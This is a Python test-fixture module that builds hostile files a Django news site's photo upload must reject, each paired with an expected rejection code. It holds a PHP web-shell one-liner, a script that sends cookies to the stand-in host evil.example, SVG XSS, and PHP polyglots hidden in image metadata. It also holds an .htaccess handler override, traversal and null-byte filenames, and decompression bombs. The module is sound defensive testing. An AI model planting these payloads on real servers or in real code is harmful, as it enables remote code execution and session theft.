"""Files nobody should manage to publish as an article photo, built in code (no binary fixtures).

hostile_uploads() -> [(filename, bytes, code)], code being the ImageRejected.code that
storage.images.process_photo gives with the test settings (15 MB, 40 megapixels). The admin form
must refuse every one of them too: names pass through Django's upload handling first (basename,
control characters removed), so each name case stays hostile after that as well.
"""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

MAX_BYTES = 15 * 1024 * 1024
PHP = b"<?php system($_GET[0]); ?>"
SCRIPT = b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"


def jpeg(size=(64, 48), **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, (11, 93, 30)).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def noisy(image_format, size=(256, 256)):
    """An image whose compressed data is long enough to be cut in the middle."""
    buffer = io.BytesIO()
    Image.effect_noise(size, 64).convert("RGB").save(buffer, image_format)
    return buffer.getvalue()


def saved(image, image_format, **options):
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    return buffer.getvalue()


def png_chunk(kind, payload):
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def one_bit_png(width, height, rows):
    """A black-and-white PNG declaring width x height, with `rows` rows of zeros compressed."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + 1 bit a pixel
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header)
            + png_chunk(b"IDAT", zlib.compress(row * rows, 9)) + png_chunk(b"IEND", b""))


def with_declared_size(data, marker, offset, packed):
    """`data` with the size fields after `marker` replaced: a tiny file that claims to be huge."""
    at = data.index(marker) + offset
    return data[:at] + packed + data[at + len(packed):]


def exif_with(text):
    exif = Image.Exif()
    exif[0x010E] = text  # ImageDescription
    return exif


def text_chunk(key, value):
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def zip_archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.jpg", jpeg())
        archive.writestr("lisez-moi.txt", "Photos du tournoi")
    return buffer.getvalue()


def hostile_uploads():
    photo = jpeg()
    return [
        # Not images at all, dressed up as one.
        ("logo.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                     b"<circle r='40'/></svg>", "not_an_image"),
        ("logo-script.jpg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "hidden_content"),
        ("page.png", b"<!DOCTYPE html><html><body><h1>Club</h1></body></html>", "not_an_image"),
        ("shell.jpg", PHP, "hidden_content"),
        ("notes.jpg", "Compte rendu de la réunion du bureau.\n".encode() * 20, "not_an_image"),
        ("programme.jpg", b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x00" * 512, "not_an_image"),
        ("setup.jpg", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run in DOS mode.",
         "not_an_image"),
        ("photos.jpg", zip_archive(), "not_an_image"),
        ("affiche.jpg", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
         "not_an_image"),
        ("bruit.jpg", random.Random(2026).randbytes(4096), "not_an_image"),
        ("vide.jpg", b"", "empty"),
        # Real images carrying code: appended, in a JPEG comment, in EXIF, in PNG text, in GIF and
        # WebP metadata, and the classic "GIF89a" header in front of PHP.
        ("polyglotte.jpg", photo + PHP, "hidden_content"),
        ("commentaire.jpg", jpeg(comment=PHP), "hidden_content"),
        ("exif.jpg", jpeg(exif=exif_with(PHP.decode())), "hidden_content"),
        ("texte.png", saved(Image.new("RGB", (32, 32)), "PNG", pnginfo=text_chunk("Comment", PHP.decode())),
         "hidden_content"),
        ("anime.gif", saved(Image.new("P", (32, 32)), "GIF", comment=SCRIPT), "hidden_content"),
        ("xmp.webp", saved(Image.new("RGB", (32, 32)), "WEBP", xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"),
         "hidden_content"),
        ("entete.gif", b"GIF89a" + PHP, "hidden_content"),
        ("page-image.jpg", b"<html>" + photo, "not_an_image"),
        # A valid JPEG under a name Apache could run or obey.
        ("shell.php", photo, "dangerous_name"),
        ("photo.php.jpg", photo, "dangerous_name"),
        ("Photo.PHP5.jpg", photo, "dangerous_name"),
        ("shell.phtml", photo, "dangerous_name"),
        ("archive.phar", photo, "dangerous_name"),
        ("page.html", photo, "dangerous_name"),
        (".htaccess", b"AddType application/x-httpd-php .jpg\n", "dangerous_name"),
        ("../../public_html/index.php", photo, "dangerous_name"),
        ("photo.php\x00.jpg", photo, "dangerous_name"),
        ("photo.php\n.jpg", photo, "dangerous_name"),
        # Damaged files.
        ("tronquee.jpg", noisy("JPEG")[:3000], "corrupt"),
        ("tronquee.png", noisy("PNG")[:30000], "corrupt"),
        # Too big: in bytes, in pixels declared by a small file (decompression bombs).
        ("enorme.jpg", photo + bytes(MAX_BYTES + 1 - len(photo)), "too_large"),
        ("bombe.png", one_bit_png(8000, 8000, rows=8000), "too_many_pixels"),  # 64 Mpx decoded from ~10 KB
        ("bombe-geante.png", one_bit_png(30000, 30000, rows=16), "too_many_pixels"),  # 900 Mpx declared
        ("bombe.jpg", with_declared_size(photo, b"\xff\xc0", 5, struct.pack(">HH", 65000, 65000)), "too_many_pixels"),
        ("bombe.gif", with_declared_size(saved(Image.new("P", (1, 1)), "GIF"), b"GIF", 6,
                                         struct.pack("<HH", 65535, 65535)), "too_many_pixels"),
        # Image formats the site does not take.
        ("scan.bmp", saved(Image.new("RGB", (32, 32)), "BMP"), "unsupported_format"),
        ("scan.tif", saved(Image.new("RGB", (32, 32)), "TIFF"), "unsupported_format"),
        ("favicon.ico", saved(Image.new("RGB", (32, 32)), "ICO"), "unsupported_format"),
    ]
